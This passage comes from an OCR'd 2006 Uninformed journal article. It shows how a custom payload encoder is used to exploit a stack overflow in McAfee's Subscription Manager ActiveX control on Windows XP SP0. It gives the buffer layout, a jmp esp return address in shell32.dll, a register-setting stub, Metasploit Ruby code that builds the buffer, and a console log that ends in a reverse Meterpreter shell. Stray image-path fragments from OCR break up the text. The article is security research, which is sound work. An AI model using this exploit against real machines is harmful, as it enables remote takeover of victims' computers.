Uninformed: Informative Information for the Uninformed

Vol 5» 2006.Sep

Applying the Encoder

The whole reason that this encoder was originally needed was to take advantage of the vulnerability in the McAfee Subscription Manager ActiveX control. Now that the encoder has been implemented, all that's left is to try it out and see if it works. To test this against a Windows XP SP0target, the overflow buffer might be constructed as follows.

First, a string of 2972 random text characters must be generated. The return address should follow the random character string. An example of a valid return address for this target is 0x7605122f which is the location of a jmp esp instruction in shell32.dll. Immediately following the return address in the overflow buffer should be a series of five instructions:

00000000  60                pusha
00000001  6A01              push byte +0x1
00000003  6A01              push byte +0x1
00000005  6A01              push byte +0x1
00000007  61                popa

The purpose of this series of instructions is to cause thevalue of esp at the time that the pusha occurs to be popped into the ecx register. As the reader should recall, the ecx register is used as the base address for the decoder stub. However, since esp doesn't actually point to the base address of the decoder stub, the encoder must be informed that 8 extra bytes must be added to ecx when accounting for the extra offset into the encoded data blocks. This is conveyed bysetting the BufferOffset value to 8. After these five instructions should come the encoded version of the payload. To better visualize this, consider the following snippet from the exploit:

buf =
   Rex::Text.rand_text(2972, payload_badchars) +
   [ ret ].pack('V') +
   "\x60" + # pusha
   "\x6a" + Rex::Text.rand_char(payload_badchars) + # push byte 0x1
   "\x6a" + Rex::Text.rand_char(payload_badchars) + # push byte 0x1
   "\x6a" + Rex::Text.rand_char(payload_badchars) + # push byte 0x1
   "\x61" + # popa

With the overflow buffer ready to go, the only thing left to do is fire off the an exploit attempt by having the machine browse to the malicious website:

msf exploit(mcafee_mcsubmgr_vsprintf) > exploit
[*] Started reverse handler
[*] Using URL: http://x.x.x.3:8080/foo
[*] Server started.
[*] Exploit running as background job.
msf exploit(mcafee_mcsubmgr_vsprintf) >
[*] Transmitting intermediate stager for over-sized stage...(89 bytes)
[*] Sending stage (2834 bytes)[*] Sleeping before handling stage...
[*] Uploading DLL (73739 bytes)...
[*] Upload completed.
[*] Meterpreter session 1 opened (x.x.x.3:4444 -> x.x.x.105:2010)

msfexploit(mcafee_mcsubmgr_vsprintf)> sessions -i 1
[*] Starting interaction with 1...

meterpreter >

Figure [*] provides an example of what the encoded form might look like on the wire. The example is highlightedstarting at the pusha instructionfound in the exploit. The first instruction of the actual decoder stub is found eight bytes after the pusha.

Figure: A sample capture of an encoded payload on the wire